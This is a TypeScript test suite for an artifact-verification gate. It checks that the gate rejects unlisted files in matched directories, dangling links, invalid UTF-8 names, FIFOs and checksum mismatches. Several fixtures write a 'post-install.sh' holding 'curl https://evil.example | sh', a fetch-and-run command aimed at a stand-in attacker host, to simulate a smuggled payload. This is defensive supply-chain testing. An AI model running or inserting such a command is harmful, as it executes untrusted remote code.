// subject-path and directories (threat-model row 173): the build, sign and deploy stages resolve their subjects the
// same way, and matched regular files only, so a directory `artifacts/*` matched was left out without a word — while
// the step after the gate (`./deploy.sh artifacts/*`) ships it. A compromised build job put `payload/post-install.sh`
// beside the reviewed artifact: no provenance, signature, review attestation or decision record named its bytes, and
// the gate said verified. A directory a pattern matches must now have every file in it among the subjects.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SubjectError } from '@twokey/core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { resolveSubjects } from './subject-files';

let workspace: string;
beforeEach(() => {
  workspace = mkdtempSync(join(tmpdir(), 'twokey-subjects-'));
  mkdirSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
  writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0\n');
  writeFileSync(join(workspace, 'artifacts', 'payload', 'post-install.sh'), 'curl https://evil.example | sh\n');
});
afterEach(() => rmSync(workspace, { recursive: true, force: true }));

const resolve = (subjectPath: string) =>
  resolveSubjects({ subjectPath, subjectDigest: '', subjectName: '', subjectChecksums: '' }, workspace);

describe('resolveSubjects with subject-path', () => {
  it('refuses a pattern that matches a directory whose files are no subjects, naming one', async () => {
    const error = await resolve('artifacts/*').then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(SubjectError);
    expect((error as SubjectError).code).toBe('SUBJECT_DIRECTORY');
    expect((error as Error).message).toBe(
      'subject-path: "artifacts/*" matches a directory that holds artifacts/payload/post-install.sh, which is no subject; an artifact is a file: name the files in it too (e.g. "artifacts/*/**") or leave the directory out',
    );
  });

  it('takes the directory when its files are subjects too, and a pattern that matches no directory', async () => {
    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
    expect((await resolve('artifacts/*\nartifacts/payload/*')).map((s) => s.name).sort()).toEqual([
      'app.tar.gz',
      'post-install.sh',
    ]);
    expect((await resolve('artifacts/*.tar.gz')).map((s) => s.name)).toEqual(['app.tar.gz']);
  });

  it('refuses a link to a directory the same way (a transport that keeps links ships what it points to)', async () => {
    mkdirSync(join(workspace, '.stash'));
    renameSync(join(workspace, 'artifacts', 'payload'), join(workspace, '.stash', 'payload'));
    symlinkSync('../.stash/payload', join(workspace, 'artifacts', 'payload'));
    await expect(resolve('artifacts/*')).rejects.toThrow(
      'subject-path: "artifacts/*" matches a directory that holds artifacts/payload/post-install.sh, which is no subject',
    );
    expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'post-install.sh']);
  });

  it('refuses a directory whatever its name (a backslash, glob characters)', async () => {
    for (const name of ['pay\\load', '[x]{y}*?!']) {
      rmSync(join(workspace, 'artifacts'), { recursive: true });
      mkdirSync(join(workspace, 'artifacts', name), { recursive: true });
      writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0\n');
      writeFileSync(join(workspace, 'artifacts', name, 'post-install.sh'), 'curl https://evil.example | sh\n');
      await expect(resolve('artifacts/*')).rejects.toThrow(
        `matches a directory that holds artifacts/${name}/post-install.sh, which is no subject`,
      );
    }
  });

  it('lets an empty directory be: nothing in it ships', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    mkdirSync(join(workspace, 'artifacts', 'empty'));
    expect((await resolve('artifacts/*')).map((s) => s.name)).toEqual(['app.tar.gz']);
  });
});

// What the listing does not show, and checksums that name files (threat model row 194): the gate judged
// `subject-checksums` digests without opening the files listed beside them (a file of other bytes shipped, judged by
// nobody); a name that is not valid UTF-8 beside its U+FFFD twin was read as the twin (the twin's bytes judged, the
// other's shipped); a link to nothing was dropped from the listing (a transport that keeps links ships it).
const failure = (promise: Promise<unknown>) =>
  promise.then(
    () => undefined,
    (caught: unknown) => caught as SubjectError,
  );

describe('what ships beside the subjects', () => {
  it('refuses a checksums file that lists a file beside it under other bytes; a digest alone needs no file', async () => {
    mkdirSync(join(workspace, 'ship'));
    const good = createHash('sha256').update('app 1.0\n').digest('hex');
    writeFileSync(join(workspace, 'ship', 'app.tar.gz'), 'app 1.0 with a backdoor\n');
    writeFileSync(join(workspace, 'ship', 'SHA256SUMS'), `${good}  app.tar.gz\n${good}  not-there.tar.gz\n`);
    const checksums = () =>
      resolveSubjects(
        { subjectPath: '', subjectDigest: '', subjectName: '', subjectChecksums: 'ship/SHA256SUMS' },
        workspace,
      );
    const error = await failure(checksums());
    expect(error?.code).toBe('SUBJECT_DIGEST_MISMATCH');
    expect(error?.message).toContain(`ship/app.tar.gz is listed as sha256:${good}, but the file there is sha256:`);
    writeFileSync(join(workspace, 'ship', 'app.tar.gz'), 'app 1.0\n');
    expect((await checksums()).map((s) => s.name)).toEqual(['app.tar.gz', 'not-there.tar.gz']);
  });

  it('refuses a directory holding a name that is not valid UTF-8 beside a subject', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    const raw = Buffer.concat([
      Buffer.from(join(workspace, 'artifacts', 'app')),
      Buffer.of(0xff),
      Buffer.from('.tar.gz'),
    ]);
    writeFileSync(raw, 'evil\n');
    writeFileSync(join(workspace, 'artifacts', 'app\ufffd.tar.gz'), 'app 1.0\n');
    const error = await failure(resolve('artifacts/*'));
    expect(error?.code).toBe('SUBJECT_NAME_INVALID');
    expect(error?.message).toContain(
      'artifacts holds an entry whose name is not valid UTF-8 (bytes 617070ff2e7461722e677a)',
    );
  });

  it('refuses a link to nothing beside a subject', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    symlinkSync('/nonexistent/config', join(workspace, 'artifacts', 'config'));
    const error = await failure(resolve('artifacts/*'));
    expect(error?.code).toBe('SUBJECT_LINK_DANGLING');
    expect(error?.message).toContain('artifacts/config is a link to nothing here');
    rmSync(join(workspace, 'artifacts', 'config'));
    expect((await resolve('artifacts/*')).map((s) => s.name)).toEqual(['app.tar.gz']);
  });

  it('looks below the subjects too: an invalid name, a link to nothing or a FIFO one level down stops the stage', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    mkdirSync(join(workspace, 'artifacts', 'sub'));
    const raw = Buffer.concat([Buffer.from(join(workspace, 'artifacts', 'sub', 'pay')), Buffer.of(0xff)]);
    mkdirSync(raw);
    writeFileSync(Buffer.concat([raw, Buffer.from('/post-install.sh')]), 'curl https://evil.example | sh\n');
    // `artifacts/sub` holds no subject and tinyglobby cannot open `pay\ufffd`: the listing showed nothing below it.
    expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_NAME_INVALID');
    rmSync(join(workspace, 'artifacts', 'sub'), { recursive: true, force: true });
    mkdirSync(join(workspace, 'artifacts', 'conf'));
    symlinkSync('/etc/app/secrets.yml', join(workspace, 'artifacts', 'conf', 'secrets.yml'));
    expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_LINK_DANGLING');
    rmSync(join(workspace, 'artifacts', 'conf'), { recursive: true });
    execFileSync('mkfifo', [join(workspace, 'artifacts', 'pipe')]);
    const fifo = await failure(resolve('artifacts/*.tar.gz'));
    expect(fifo?.code).toBe('SUBJECT_UNREADABLE');
    expect(fifo?.message).toContain('artifacts/pipe is neither a file nor a directory');
  });

  it('checks a checksums file’s listed names: a directory listed, any algorithm listed, names in other bytes', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    const checksums = (file: string) =>
      resolveSubjects({ subjectPath: '', subjectDigest: '', subjectName: '', subjectChecksums: file }, workspace);
    mkdirSync(join(workspace, 'ship', 'lib'), { recursive: true });
    writeFileSync(join(workspace, 'ship', 'lib', 'post-install.sh'), 'evil\n');
    writeFileSync(join(workspace, 'ship', 'SUMS'), `${'a'.repeat(64)}  lib\n`);
    expect((await failure(checksums('ship/SUMS')))?.code).toBe('SUBJECT_DIRECTORY');
    // An honest sha512sum list, its file there: judged in its own algorithm.
    rmSync(join(workspace, 'ship', 'lib'), { recursive: true });
    writeFileSync(join(workspace, 'ship', 'app.tar.gz'), 'app 1.0\n');
    const sha512 = createHash('sha512').update('app 1.0\n').digest('hex');
    writeFileSync(join(workspace, 'ship', 'SUMS'), `${sha512}  app.tar.gz\n`);
    expect((await checksums('ship/SUMS')).map((s) => s.digest)).toEqual([{ sha512 }]);
    // A name written in bytes that are not UTF-8 would be read as another name, and its file never opened.
    writeFileSync(
      join(workspace, 'ship', 'SUMS'),
      Buffer.concat([Buffer.from(`${sha512}  app`), Buffer.of(0xff), Buffer.from('.tar.gz\n')]),
    );
    expect((await failure(checksums('ship/SUMS')))?.code).toBe('SUBJECT_NAME_INVALID');
  });

  it('checks a listed name where sha256sum -c from the workspace finds it too, and refuses names a reader would trim', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    const checksums = (file: string) =>
      resolveSubjects({ subjectPath: '', subjectDigest: '', subjectName: '', subjectChecksums: file }, workspace);
    // `sha256sum artifacts/* > artifacts/SHA256SUMS` from the workspace names artifacts/app.tar.gz: that file was
    // never opened (twokey looked for artifacts/artifacts/app.tar.gz), so other bytes there shipped unjudged.
    const listed = createHash('sha256').update('app 1.0 (reviewed)\n').digest('hex');
    writeFileSync(join(workspace, 'artifacts', 'SHA256SUMS'), `${listed}  artifacts/app.tar.gz\n`);
    const swapped = await failure(checksums('artifacts/SHA256SUMS'));
    expect(swapped?.code).toBe('SUBJECT_DIGEST_MISMATCH');
    expect(swapped?.message).toContain('artifacts/app.tar.gz is listed as sha256:');
    writeFileSync(join(workspace, 'artifacts', 'app.tar.gz'), 'app 1.0 (reviewed)\n');
    expect((await checksums('artifacts/SHA256SUMS')).map((s) => s.name)).toEqual(['artifacts/app.tar.gz']);
    // The directory of a name found from the workspace is walked as a subject's: a link to nothing beside it stops.
    symlinkSync('/nonexistent/payload.sh', join(workspace, 'artifacts', 'post-install.sh'));
    expect((await failure(checksums('artifacts/SHA256SUMS')))?.code).toBe('SUBJECT_LINK_DANGLING');
    rmSync(join(workspace, 'artifacts', 'post-install.sh'));
    // `cd artifacts && sha256sum *`: bare names are the list's neighbours only, never the checkout's files of the same
    // name (a README.md, a source directory app/, a broken link elsewhere in the checkout).
    writeFileSync(join(workspace, 'README.md'), 'the repository readme\n');
    mkdirSync(join(workspace, 'app.tar.gz.d'));
    symlinkSync('/nonexistent', join(workspace, 'dangling'));
    writeFileSync(join(workspace, 'artifacts', 'README.md'), 'release notes\n');
    const notes = createHash('sha256').update('release notes\n').digest('hex');
    writeFileSync(join(workspace, 'artifacts', 'SHA256SUMS'), `${listed}  app.tar.gz\n${notes}  README.md\n`);
    expect((await checksums('artifacts/SHA256SUMS')).map((s) => s.name)).toEqual(['app.tar.gz', 'README.md']);
    rmSync(join(workspace, 'dangling'));
    // `app.tar.gz ` (a trailing blank): `while read sum name` ships app.tar.gz, which the list does not name.
    for (const name of ['app.tar.gz ', ' app.tar.gz', 'app\u0000.tar.gz', 'app\u007f.tar.gz', 'sub/../app.tar.gz']) {
      writeFileSync(join(workspace, 'artifacts', 'SHA256SUMS'), `${listed}  ${name}\n`);
      expect((await failure(checksums('artifacts/SHA256SUMS')))?.code, JSON.stringify(name)).toBe(
        'CHECKSUMS_LINE_INVALID',
      );
    }
  });

  // Behind a link to a directory, the glob library's listing skips what it cannot read or takes for a loop (a link
  // whose target's name starts with another's: `a/more -> ab`), so `PATTERN/**` judged nothing there; the walk now goes
  // through links to directories, and every file it finds there must be a subject.
  it('walks through a link to a directory: a file the glob library skipped, an invalid name, a FIFO there stop the stage', async () => {
    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
    const outside = mkdtempSync(join(tmpdir(), 'twokey-subjects-outside-'));
    try {
      mkdirSync(join(outside, 'a'));
      mkdirSync(join(outside, 'ab'));
      writeFileSync(join(outside, 'ab', 'post-install.sh'), 'curl https://evil.example | sh\n');
      symlinkSync(join(outside, 'a'), join(workspace, 'artifacts', 'payload'));
      symlinkSync(join(outside, 'ab'), join(outside, 'a', 'more'));
      for (const pattern of ['artifacts/*', 'artifacts/**']) {
        const error = await failure(resolve(pattern));
        expect(error?.code, pattern).toBe('SUBJECT_DIRECTORY');
        expect(error?.message).toContain(
          'artifacts/payload/more/post-install.sh, in a directory reached through a link',
        );
      }
      rmSync(join(outside, 'a', 'more'));
      const raw = Buffer.concat([Buffer.from(join(outside, 'a', 'x')), Buffer.of(0xff)]);
      mkdirSync(raw);
      expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_NAME_INVALID');
      rmSync(raw, { recursive: true });
      execFileSync('mkfifo', [join(outside, 'a', 'fifo')]);
      expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_UNREADABLE');
      rmSync(join(outside, 'a', 'fifo'));
      // What is left behind the link is judged as before: its files subjects, the link accepted.
      writeFileSync(join(outside, 'a', 'lib.so'), 'lib\n');
      expect((await resolve('artifacts/**')).map((s) => s.name).sort()).toEqual(['app.tar.gz', 'lib.so']);
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });
});
